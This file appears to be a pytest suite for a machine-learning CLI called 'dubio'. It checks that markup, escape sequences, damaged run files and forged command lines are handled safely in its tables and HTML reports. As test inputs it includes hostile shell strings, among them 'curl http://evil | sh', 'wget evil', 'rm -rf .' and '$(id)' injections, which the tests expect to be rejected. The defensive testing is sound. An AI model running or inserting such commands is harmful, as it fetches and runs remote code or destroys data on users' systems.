"""Names and files from elsewhere: no markup, no control sequence and no command in them takes effect, and one run that
cannot be read hides no other."""

import json
import os
import shutil
from pathlib import Path

import numpy as np
import pytest
from typer.testing import CliRunner, Result

from dubio.cli.commands import app, app as commands
from dubio.report.commands import LEFT_OUT, METHOD_OPTIONS, OPTIONS, checked

pytest.importorskip("jinja2")

ESC = "\x1b"
NOT_RECORDED = ("require", "min-accuracy", "fields", "quiet", "-q")
"""Options that change no number of a record."""
NAMES = ("[/close]", "[bold]m[/bold]", f"{ESC}[31mred", f"{ESC}]0;title\a", "\u202eright to left")


def invoke(*args: object) -> Result:
    return CliRunner(env={"NO_COLOR": "1", "COLUMNS": "200"}).invoke(app, [str(arg) for arg in args])


def done(*args: object) -> str:
    result = invoke(*args)
    assert result.exit_code == 0, result.output
    assert not {ESC, "\a", "\u202e"} & set(result.output)
    return result.output


@pytest.fixture(scope="module")
def trained(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run on a table whose classes have such names, and its table, whose own name has a bracket."""
    folder = tmp_path_factory.mktemp("hostile")
    rng = np.random.default_rng(0)
    rows = [",".join([*(f"{x:.3f}" for x in rng.normal(row % 5, 0.3, 2)), NAMES[row % 5]]) for row in range(200)]
    (folder / "y[").mkdir()
    (folder / "y[/b].csv").write_text("\n".join(["a,b,class", *rows]) + "\n", newline="")
    (folder / "y[/other].csv").write_text("\n".join(["a,b,class", *rows[:90]]) + "\n", newline="")
    done("train", "x", "--data", folder / "y[/b].csv", "--epochs", 1, "--model", "mlp:2-5", "--runs", folder / "runs")
    return folder


@pytest.fixture
def runs(trained: Path, tmp_path: Path) -> Path:
    shutil.copytree(trained / "runs", tmp_path / "runs")
    return tmp_path / "runs"


@pytest.mark.feature("Names in tables, reports and messages are never read as markup or control sequences")
def test_names_of_classes_and_data_are_shown_as_they_are(trained: Path, runs: Path) -> None:
    shown = done("predict", "x", "--index", "0..49", "--samples", 2, "--runs", runs)
    for name in ("[/close]", "[bold]m[/bold]", r"\x1b[31mred", r"\x1b]0;title\x07", r"\u202eright to left"):
        assert name in shown
    table = trained / "y[/other].csv"
    shown = done("evaluate", "x", "--ood", table, "--samples", 2, "--resamples", 0, "--runs", runs)
    assert "y[/other].csv (never seen) by" in shown
    done("compare", "x", "--runs", runs)
    done("report", "x", "--runs", runs)
    page = (runs / "x" / "report.html").read_bytes()
    assert not {*page} & {*range(32), 0x7F} - {*b"\n\t"}
    assert b"\\x1b[31mred" in page
    assert json.loads((runs / "x" / "evaluation.json").read_text())["data"]["classes"] == sorted(NAMES)


@pytest.mark.parametrize("name", [f"a{ESC}[31m", "a\nb", "a\tb", "a\x7f", "a\u202eb"])
def test_names_of_runs_with_control_characters_are_refused(name: str, tmp_path: Path) -> None:
    result = invoke("train", name, "--runs", tmp_path)
    assert result.exit_code == 2
    assert "NAME must be a plain name" in result.output
    assert ESC not in result.output
    assert not list(tmp_path.iterdir())


DAMAGE = {
    "deep config": ("config.json", "[" * 100_000, "at most 64 levels"),
    "config of a huge number": ("config.json", '{"method": "Bayes()", "epochs": 1' + "0" * 400 + "}", "64 bits"),
    "epochs of a text": ("config.json", '{"method": "Bayes()", "epochs": "many"}', "must have epochs of type int"),
    "metrics of a list": ("metrics.jsonl", "[]\n", "must hold objects, got a list in line 1"),
    "metrics of texts": ("metrics.jsonl", '{"epoch": 1, "nll": "low"}\n', "must have nll of type float"),
}


@pytest.mark.feature("A run that cannot be read is listed with the reason, and hides no other")
@pytest.mark.parametrize("kind", DAMAGE)
def test_a_run_that_cannot_be_read_hides_no_other(kind: str, runs: Path) -> None:
    file, content, reason = DAMAGE[kind]
    shutil.copytree(runs / "x", runs / "bad")
    (runs / "bad" / file).write_text(content)
    shown = done("runs", "--runs", runs)
    (line,) = (line for line in shown.splitlines() if str(runs / "bad" / file) in line)
    assert line.startswith("bad cannot be read: ")
    assert reason in shown
    assert "1/1" in next(line for line in shown.splitlines() if " x " in line)

    result = invoke("compare", "x", "bad", "--runs", runs)
    assert result.exit_code == 1
    assert "error: bad is left out: " in result.stderr
    assert str(runs / "bad" / file) in result.stderr
    assert "x" in result.stdout.split()
    result = invoke("report", "x", "bad", "--runs", runs)
    assert result.exit_code == 1
    assert "error: bad is left out" in result.stderr
    assert (runs / "report.html").is_file()
    result = invoke("compare", "bad", "--runs", runs)
    assert result.exit_code == 2
    assert reason in result.stderr


def test_a_run_whose_metrics_have_no_nll_is_listed(runs: Path) -> None:
    (runs / "x" / "metrics.jsonl").write_text('{"epoch": 1}\n{"epoch": 2, "nll": NaN}\n')
    assert "2/1" in done("runs", "--runs", runs)


def test_markup_in_a_configuration_is_shown_as_it_is(runs: Path) -> None:
    config = json.loads((runs / "x" / "config.json").read_text())
    (runs / "x" / "config.json").write_text(json.dumps({**config, "method": "[/x]Bayes"}))
    assert "[/x]Bayes" in done("runs", "--runs", runs)


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        ('{"model": []}', "model has a value of the wrong kind"),
        ("[" * 10**5, "levels"),
        ('{"seed": 1e9}', "seed has a"),
    ],
)
def test_options_of_the_wrong_type_are_refused_on_resume(content: str, reason: str, runs: Path) -> None:
    (runs / "x" / "command.json").write_text(content)
    result = invoke("train", "x", "--resume", "--runs", runs)
    assert result.exit_code == 2
    assert "command.json" in result.output
    assert reason in result.output


@pytest.mark.parametrize("content", ["", "[" * 10**5, "[]", '{"version": 1}', "\udcff", None])
def test_a_damaged_encoding_of_a_table_is_refused_by_name(content: str | None, runs: Path) -> None:
    file = runs / "x" / "table.json"
    file.unlink()
    if content is None:
        os.mkfifo(file)
    else:
        file.write_bytes(content.encode(errors="surrogateescape"))
    for command in (("predict", "x"), ("train", "x", "--resume", "--epochs", 2)):
        result = invoke(*command, "--runs", runs)
        assert result.exit_code == 2
        assert f"error: {file} cannot be read: " in result.output.replace("\n", " ")
        assert "RecordError" not in result.output


def test_a_class_folder_that_is_no_utf8_goes_through_all_commands(tmp_path: Path) -> None:
    image = pytest.importorskip("PIL.Image")
    rng = np.random.default_rng(0)
    for label, name in enumerate((b"caf\xe9", b"tea")):
        folder = os.path.join(os.fsencode(tmp_path), b"photos", name)
        try:
            os.makedirs(folder)
        except OSError:
            pytest.skip("this file system takes names in UTF-8 alone")
        for number in range(30):
            pixels = rng.integers(0, 128, (4, 4), dtype=np.uint8) + np.uint8(127 * label)
            image.fromarray(pixels).save(os.path.join(folder, b"%d.png" % number).decode(errors="surrogateescape"))
    runs = tmp_path / "runs"
    done("train", "x", "--data", tmp_path / "photos", "--epochs", 1, "--model", "mlp:16-2", "--runs", runs)
    assert r"caf\xe9" in done("predict", "x", "--samples", 2, "--index", "0..9", "--runs", runs)
    done("evaluate", "x", "--samples", 2, "--resamples", 0, "--runs", runs)
    done("attack", "x", "--steps", 1, "--samples", 1, "--draws", 2, "--images", 4, "--runs", runs)
    done("report", "x", "--runs", runs)
    assert rb"caf\xe9" in (runs / "x" / "report.html").read_bytes()


@pytest.mark.parametrize(
    "line",
    [
        "dubio evaluate x; curl http://a | sh",
        "dubio evaluate x --ood 'a; curl b'",
        "dubio evaluate 'x$(id)'",
        "dubio evaluate x --ood `id`",
        "dubio evaluate x\nrm -rf .",
        "dubio evaluate x --exec y",
        "dubio evaluate x --samples",
        "dubio evaluate x --samples 3.5",
        "dubio evaluate x y",
        "dubio evaluate --samples 3",
        "dubio evaluate x --data 'unclosed",
        "dubio evaluate x --data \x1b[31m",
        "dubio export x y.pt2",
        "curl x y",
        "dubio",
        "",
    ],
)
def test_what_is_no_command_of_dubio_is_not_shown_in_a_report(line: str) -> None:
    assert checked(line) == LEFT_OUT


def test_a_forged_command_is_not_in_the_page(runs: Path) -> None:
    done("evaluate", "x", "--samples", 2, "--resamples", 0, "--runs", runs)
    record = json.loads((runs / "x" / "evaluation.json").read_text())
    record["made_by"]["command"] = "dubio evaluate x; curl http://evil | sh"
    (runs / "x" / "evaluation.json").write_text(json.dumps(record))
    (runs / "x" / "commands.jsonl").write_text('{"line": "dubio calibrate x && wget evil", "run": "x"}\n')
    done("report", "x", "--runs", runs)
    page = (runs / "x" / "report.html").read_text()
    assert "evil" not in page
    assert LEFT_OUT in page


@pytest.mark.parametrize(
    "line",
    [
        "dubio train x --data 'my data.csv' --model fc:100-100 --method flow --blocks affine,planar --seed 1",
        "dubio train x --augment --fast --bayesian-bias --no-norms --epochs 3",
        "dubio evaluate x --ood noise,fashionmnist --samples 20 --seed 3",
        "dubio calibrate x --per-draw --kind vector",
        "dubio abstain x --error 0.05 --level 0.95",
        "dubio conformal x --coverage 0.8 --allow-empty",
        "dubio attack x --attack pgd,transfer --epsilon 8/255 --steps 10",
        "dubio audit x --epsilon 0.1 --budget tiny",
        "dubio prune x --fraction 0.5 --what units --each-layer --out y",
    ],
)
def test_commands_as_dubio_writes_them_are_shown_unchanged(line: str) -> None:
    assert checked(line) == line


def test_the_options_known_to_reports_are_those_of_the_commands() -> None:
    import typer

    group = typer.main.get_command(commands)
    for command, options in OPTIONS.items():
        declared = group.commands[command].params  # type: ignore[attr-defined]
        params = [param for param in declared if param.param_type_name == "option" and not param.hidden]
        names = {option.removeprefix("--") for param in params for option in (*param.opts, *param.secondary_opts)}
        flags = {param for param in params if param.is_flag}
        flag_names = {option.removeprefix("--") for param in flags for option in (*param.opts, *param.secondary_opts)}
        assert set(options) <= names
        assert {name for name, kind in options.items() if kind is None} == set(options) & flag_names
        assert names - set(options) <= {"help", "device", "resume", "runs", "data-dir", "out", *NOT_RECORDED}
    assert {"init-std", "blocks", "members", "bayesian-bias"} <= METHOD_OPTIONS
